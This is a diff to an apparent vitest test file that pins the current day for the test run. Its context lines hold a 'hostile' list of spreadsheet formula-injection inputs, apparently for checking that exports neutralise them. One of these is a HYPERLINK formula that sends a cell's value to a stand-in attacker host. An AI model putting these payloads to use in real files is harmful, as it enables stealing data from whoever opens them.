@@ -2,12 +2,14 @@
 
 import pg from "pg";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { stayOnOneDay } from "../shared/current-day.ts";
 import { createDatabase } from "../shared/database.ts";
 import { startService } from "../shared/service.ts";
 import { type Member, newMember } from "./dashboard.ts";
 import { importAll, recorded } from "./recorded.ts";
 import { newOrganization, type RunningService, type TestOrganization } from "./service.ts";
 
+await stayOnOneDay();
 const now = Date.now();
 const hostile = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", '=HYPERLINK("http://evil.example/?"&A1;"x")'];
 const texts = [
